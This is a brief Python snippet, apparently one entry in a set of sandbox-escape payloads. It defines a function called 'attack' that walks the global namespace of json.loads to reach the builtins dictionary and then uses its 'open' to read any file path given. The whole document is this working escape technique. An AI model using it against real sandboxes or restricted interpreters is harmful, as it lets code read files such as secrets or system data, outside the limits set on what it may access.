# Unpacking reads what stands to its right.
# after: read
# source: own
import json
def attack(path, **_):
    *names, = json.loads.__globals__.values()
    for value in names:
        if type(value) is dict and "open" in value:
            return {"text": value["open"](path).read()}
